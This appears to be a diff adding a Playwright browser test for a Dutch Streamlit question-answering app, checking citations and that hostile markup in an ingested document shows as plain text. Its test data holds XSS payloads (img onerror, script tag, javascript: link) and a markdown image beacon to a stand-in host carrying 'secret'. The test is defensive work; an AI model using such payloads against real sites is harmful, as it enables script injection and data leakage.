@@ -1,0 +1,129 @@
+"""The real app in a real browser: `streamlit run` on a local port, driven by headless Debian Chromium through Playwright."""
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import time
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+from .conftest import ROOT, free_port
+
+CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
+ARTIFACTS = ROOT / "test-artifacts"
+HOSTILE = (
+    "Schoolreis naar Parijs <img src=x onerror=alert(1)>\n\n"
+    "Het schoolreisje naar Parijs kost 450 euro per leerling volgens de ouderraad <script>alert(2)</script> "
+    "en [klik hier](javascript:alert(3)) ![](http://example.invalid/?d=secret) bij de aanmelding.\n"
+)
+
+pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed (make browser)")]
+
+
+def wait_healthy(port: int, proc: subprocess.Popen, seconds: float) -> float:
+    start = time.monotonic()
+    while time.monotonic() - start < seconds:
+        assert proc.poll() is None, "the app exited"
+        try:
+            with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=1) as r:
+                if r.status == 200:
+                    return time.monotonic() - start
+        except OSError:
+            pass
+        time.sleep(0.2)
+    raise AssertionError(f"no health answer within {seconds} s")
+
+
+@pytest.fixture(scope="module")
+def app(corpus_settings, tmp_path_factory):
+    """The app over a copy of the corpus index, plus a document full of hostile markup."""
+    from ingest.pipeline import ingest
+
+    data = tmp_path_factory.mktemp("browser") / "data"
+    shutil.copytree(corpus_settings.data_dir, data)
+    hostile = data.parent / "hostile"
+    hostile.mkdir()
+    (hostile / "schoolreis <img src=x onerror=alert(4)>.txt").write_text(HOSTILE, encoding="utf-8")
+    settings = corpus_settings.model_copy(update={"data_dir": data})
+    assert ingest([hostile], settings).added
+    port = free_port()
+    env = {**os.environ, "KANSENWIJZER_DATA_DIR": str(data)}
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "streamlit", "run", str(ROOT / "ui" / "app.py"), "--server.port", str(port), "--server.headless", "true"],
+        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+    )
+    seconds = wait_healthy(port, proc, 20)
+    yield {"url": f"http://127.0.0.1:{port}", "startup": seconds}
+    proc.terminate()
+    proc.wait(timeout=20)
+
+
+@pytest.fixture(scope="module")
+def browser():
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
+                                                              "--disable-component-update", "--disable-sync", "--no-first-run"])
+        yield b
+        b.close()
+
+
+def open_page(browser, url):
+    page = browser.new_page(viewport={"width": 1400, "height": 1000})
+    events = {"dialogs": [], "requests": []}
+    page.on("dialog", lambda d: (events["dialogs"].append(d.message), d.dismiss()))
+    page.on("request", lambda r: events["requests"].append(r.url))
+    page.goto(url)
+    page.get_by_text("Kansenwijzer", exact=True).first.wait_for(timeout=30_000)
+    return page, events
+
+
+def ask(page, question: str) -> None:
+    box = page.get_by_placeholder("Stel een vraag over kansengelijkheid…")
+    box.fill(question)
+    box.press("Enter")
+    page.get_by_text("gezocht in:").last.wait_for(timeout=60_000)
+
+
+def test_the_app_starts_within_20_seconds_on_an_existing_index(app):
+    assert app["startup"] < 20
+
+
+def test_ask_see_the_citation_and_open_the_source(app, browser):
+    ARTIFACTS.mkdir(exist_ok=True)
+    page, _ = open_page(browser, app["url"])
+    ask(page, "Hoeveel geld ging er in 2022 naar het leerplusarrangement?")
+    answer = page.get_by_test_id("stChatMessage").last
+    assert "52 mln" in answer.inner_text() and "[1]" in answer.inner_text()
+    assert "kenmerk 35735585" in answer.inner_text()
+    highlight = answer.locator("span", has_text="52 mln").first
+    assert highlight.is_visible()
+    page.screenshot(path=str(ARTIFACTS / "chat-answer.png"), full_page=True)
+    answer.get_by_role("button", name="Bekijk in document").first.click()
+    dialog = page.get_by_role("dialog")
+    dialog.wait_for(timeout=30_000)
+    assert "52 mln" in dialog.inner_text() and "kenmerk 35735585" in dialog.inner_text()
+    page.screenshot(path=str(ARTIFACTS / "source-viewer.png"))
+    page.close()
+
+
+def test_hostile_markup_in_a_document_shows_as_text(app, browser):
+    page, events = open_page(browser, app["url"])
+    ask(page, "Hoeveel kost het schoolreisje naar Parijs per leerling?")
+    answer = page.get_by_test_id("stChatMessage").last
+    text = answer.inner_text()
+    assert "450 euro" in text
+    assert "<script>alert(2)</script>" in text and "[klik hier](javascript:alert(3))" in text
+    assert "![](http://example.invalid/?d=secret)" in text
+    page.wait_for_timeout(1500)
+    assert events["dialogs"] == []
+    assert not [u for u in events["requests"] if "example.invalid" in u]
+    assert page.locator('img[src="x"]').count() == 0 and page.locator('a[href^="javascript"]').count() == 0
+    assert page.locator("script", has_text="alert(2)").count() == 0
+    page.screenshot(path=str(ARTIFACTS / "hostile-document.png"), full_page=True)
+    page.close()
